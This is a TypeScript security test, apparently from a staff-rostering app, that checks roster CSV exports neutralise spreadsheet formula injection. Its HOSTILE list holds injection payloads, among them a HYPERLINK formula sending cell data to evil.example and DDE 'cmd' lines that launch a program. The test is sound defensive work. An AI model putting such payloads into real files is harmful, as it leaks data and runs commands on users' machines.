/**
 * Issue #10, item 10: staff names that a spreadsheet would run as formulas were written unescaped
 * into the roster CSV. Attack: create staff named `=HYPERLINK(…)`, `+cmd|…`, `@SUM(…)`, `-2+3`
 * through the API, roster them, download the CSV. Safe outcome: every such cell starts with a
 * single quote (OWASP rule) while numeric columns keep plain (negative) numbers.
 */
import { parse } from 'csv-parse/sync';
import { csvCellText } from '../../src/export/csv-writer';
import { startTestApp, type TestApp } from '../helpers/test-app';
import {
  availabilityDoc,
  GENERATE,
  generateVariables,
  seedRosterSite,
} from '../integration/rostering/roster.seed';
import { AVAILABILITY, type AvailabilityDoc } from '../../src/staff/staff.doc';
import { HOURLY } from '../integration/forecasting/forecast-fixtures';
import { expectOk } from '../helpers/expect-ok';

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '-2+3',
  '\t=1+1',
  '\r=1+1',
];

const CREATE_STAFF = /* GraphQL */ `
  mutation ($input: CreateStaffInput!) {
    createStaff(input: $input) {
      id
      name
    }
  }
`;

describe('security #10: CSV exports neutralise formulas', () => {
  let t: TestApp;
  let manager: string;

  beforeAll(async () => {
    t = await startTestApp({
      seed: async (s) => {
        await seedRosterSite(s);
        await s.channels.create(HOURLY);
      },
    });
    manager = await t.login('manager');
  });
  afterAll(() => t.close());

  it('quotes every formula trigger in text and leaves typed numbers alone', () => {
    expect(HOSTILE.map(csvCellText)).toEqual(HOSTILE.map((h) => `'${h}`));
    expect(csvCellText('Ada')).toBe('Ada');
    expect(csvCellText(-2.5)).toBe('-2.5');
    expect(csvCellText(0)).toBe('0');
    expect(csvCellText(null)).toBe('');
    expect(csvCellText("'already quoted")).toBe("'already quoted");
  });

  it('writes hostile staff names into the roster CSV as inert text', async () => {
    const ids: string[] = [];
    const stored: string[] = [];
    for (const [i, name] of HOSTILE.entries()) {
      const res = await t.gql<{ createStaff: { id: string; name: string } }>(
        CREATE_STAFF,
        {
          input: {
            employeeNo: `X-${i}`,
            name,
            skills: ['calls'],
            hourlyCost: 10,
            contract: { minHoursWeek: 0, maxHoursWeek: 40, maxDaysWeek: 5, maxConsecutiveDays: 5 },
          },
        },
        manager,
      );
      expectOk(res);
      // the API trims names, so `\t=1+1` is stored as `=1+1`: still a formula to neutralise
      expect(res.data!.createStaff.name).toBe(name.trim());
      stored.push(res.data!.createStaff.name);
      ids.push(res.data!.createStaff.id);
    }
    await t.services.store
      .collection<AvailabilityDoc>(AVAILABILITY)
      .insertMany(ids.map((id) => availabilityDoc(id)));
    const job = await t.gql<{ generateRoster: { id: string } }>(GENERATE, generateVariables(), manager);
    expectOk(job);
    const done = await t.services.rosterJobs.settled(job.data!.generateRoster.id);
    expect({ state: done.state, error: done.error }).toEqual({ state: 'SUCCEEDED', error: null });

    const res = await fetch(`${t.app.url}/exports/rosters/${done.rosterId}.csv`, {
      headers: { authorization: `Bearer ${manager}` },
    });
    expect(res.status).toBe(200);
    const rows = parse(await res.text(), { columns: true }) as Record<string, string>[];
    const names = rows.map((r) => r.Name!);
    for (const name of stored) expect(names).toContain(`'${name}`);
    // no cell of the file starts a formula
    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    // numeric columns stay numbers
    for (const row of rows) expect(Number.isFinite(Number(row['Paid hours']))).toBe(true);
  });
});
